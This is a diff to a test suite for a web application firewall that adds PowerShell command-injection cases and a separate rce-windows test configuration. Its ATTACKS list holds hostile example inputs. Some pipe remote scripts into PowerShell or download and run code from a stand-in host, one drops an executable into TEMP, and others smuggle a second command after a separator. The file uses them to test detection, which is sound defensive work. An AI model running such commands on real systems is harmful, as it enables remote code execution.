@@ -8,7 +8,8 @@ still refused by the rule that read the look-alike before.
 - an option named like a builtin, "--exec <cmd>", is no "exec" builtin
   with a redirection (rce-shell-syntax);
 - "PowerShell" last in a sentence or as a quoted string is a name, not
-  the interpreter run (rce-windows);
+  the interpreter run; after a separator and given a command to run
+  ("& powershell iwr ..") it is (rce-windows);
 - "name = value", "CC ?= clang", "x == 2": an assignment or comparison,
   not a command with "=" for its argument (rce-command);
 - "Then", "Else", "Do" after a line break open no compound command when
@@ -63,6 +64,8 @@ ATTACKS = [
     ("curl http://h.example/x.ps1 | powershell", "rce-windows"),
     ('"powershell" -c whoami', "rce-windows"),
     ('x & powershell "iex(iwr http://h.example/x)"', "rce-command"),
+    ("& powershell iwr http://h.example/u -OutFile $env:TEMP\\u.exe", "rce-windows"),
+    ("x | pwsh iex $env:P", "rce-windows"),
     ("; python -c 'import os'", "rce-command"),
     ("x; ls = /etc", "rce-command"),
     (";if true; then id; fi", "rce-command"),
@@ -93,6 +96,11 @@ def edge(tmp_path_factory):
 def class_edges(tmp_path_factory):
     edges = {c: WafEdge(tmp_path_factory.mktemp("waf-devtext-" + c),
                         only_classes_config(c)).start() for c in CLASSES}
+    # rce-windows: a PowerShell line is a command line too, which the
+    # command rules read first
+    conf = only_classes_config("rce")
+    conf["waf"]["disabled_rules"] += ["rce-command", "rce-command-line", "rce-command-start"]
+    edges["rce-windows"] = WafEdge(tmp_path_factory.mktemp("waf-devtext-win"), conf).start()
     yield edges
     for e in edges.values():
         e.stop()
@@ -130,7 +138,7 @@ def test_developers_text_passes(edge, value, how):
 def test_the_same_syntax_as_an_attack_is_refused(edge, class_edges, value, rule, how):
     status, _ = send(edge, value, how)
     assert status == 403, value
-    alone = class_edges[rule.split("-")[0]]
+    alone = class_edges.get(rule) or class_edges[rule.split("-")[0]]
     status, rid = send(alone, value, how)
     assert status == 403, (value, rule)
     rules = [m["rule"] for m in alone.audit_for(rid)["matches"]]
